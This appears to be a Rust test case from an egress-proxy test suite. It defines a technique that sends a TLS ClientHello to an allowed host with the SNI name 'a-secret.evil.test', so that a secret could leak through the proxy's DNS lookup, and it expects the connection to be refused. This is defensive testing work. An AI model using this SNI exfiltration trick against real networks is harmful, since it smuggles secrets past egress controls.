//! A name in a ClientHello.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "name-leaked-by-hello",
    family: Family::Dns,
    name: "A name in a ClientHello",
    tries: "Greets an allowed host's address with a name that carries a secret and is not allowed.",
    danger: "The proxy resolves the names of redirected connections itself.",
    places: Places::Everywhere,
    steps: &[Step::Tcp(
        Named("allowed.test", 443),
        &[Made("a ClientHello for a-secret.evil.test", || hello::hello(&[hello::named("a-secret.evil.test")]))],
    )],
    expect: Expect { asks: &["allowed.test"], refusals: &[refusal("connect", "default", "no_rule_allows")], ..NOTHING },
    on_host: None,
};
